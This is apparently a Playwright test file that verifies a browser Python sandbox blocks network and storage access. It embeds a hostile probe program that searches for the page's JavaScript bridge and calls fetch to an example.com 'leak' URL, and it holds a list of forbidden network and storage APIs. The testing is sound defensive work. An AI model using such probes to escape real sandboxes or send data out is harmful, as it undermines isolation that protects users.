import { expect, test } from '@playwright/test';
import { output, runButton, SCREENS, setProgram, status, waitForPython } from './helpers.ts';

// A program that goes looking for the page's JavaScript world (`js`) by every door it knows,
// and if it finds it, tries to reach the network and storage from there.
const SNOOP = `import asyncio
import sys


def find_js():
    for name in ("js", "pyodide_js"):
        if sys.modules.get(name) is not None:
            return sys.modules[name]
    for module in list(sys.modules.values()):
        candidate = getattr(module, "js", None)
        if candidate is not None and hasattr(candidate, "Object"):
            return candidate
    return None


async def main():
    js = find_js()
    if js is None:
        print("found no way to the page")
        return
    for name in ("fetch", "XMLHttpRequest", "WebSocket", "indexedDB", "caches", "importScripts"):
        print(name, "->", getattr(js, name, None))
    try:
        js.fetch("https://example.com/leak")
        print("LEAKED")
    except Exception as e:
        print("fetch failed:", type(e).__name__)


asyncio.run(main())
`;

test('a program cannot reach the network or storage, even through the js module', async ({
  page,
  context,
}) => {
  const foreign: string[] = [];
  context.on('request', (request) => {
    if (new URL(request.url()).hostname !== '127.0.0.1') foreign.push(request.url());
  });
  await page.goto('/');
  await waitForPython(page);
  await setProgram(page, SNOOP);
  await runButton(page).click();
  await expect(status(page)).toHaveText(/^Completed in [\d,]+ steps \(0–[\d,]+\)$/);
  await page.screenshot({ path: `${SCREENS}/07-sandbox.png` });
  const text = (await output(page).textContent()) ?? '';
  expect(text).not.toContain('LEAKED');
  expect(text).not.toMatch(
    /(fetch|XMLHttpRequest|WebSocket|indexedDB|caches|importScripts) -> (?!None)/,
  );
  expect(foreign).toEqual([]);
});

test('the Python worker has no network or storage left once Python has loaded', async ({
  page,
}) => {
  await page.goto('/');
  await waitForPython(page);
  const python = page.workers().find((w) => /\/assets\/worker-[^/]*\.js$/.test(w.url()));
  expect(python, 'the Python worker').toBeDefined();
  const reachable = await python?.evaluate(() => {
    const names = [
      'fetch',
      'XMLHttpRequest',
      'WebSocket',
      'EventSource',
      'indexedDB',
      'caches',
      'importScripts',
      'Worker',
      'postMessage',
    ];
    const found: string[] = [];
    for (const name of names) {
      // On the global object or anywhere up its prototype chain (where browsers define them).
      for (let o: object | null = globalThis; o; o = Object.getPrototypeOf(o)) {
        const value = (o as Record<string, unknown>)[name];
        if (value !== undefined) {
          found.push(name);
          break;
        }
      }
    }
    const nav = (globalThis as { navigator?: { storage?: unknown } }).navigator;
    if (nav?.storage !== undefined) found.push('navigator.storage');
    return found;
  });
  expect(reachable).toEqual([]);
});
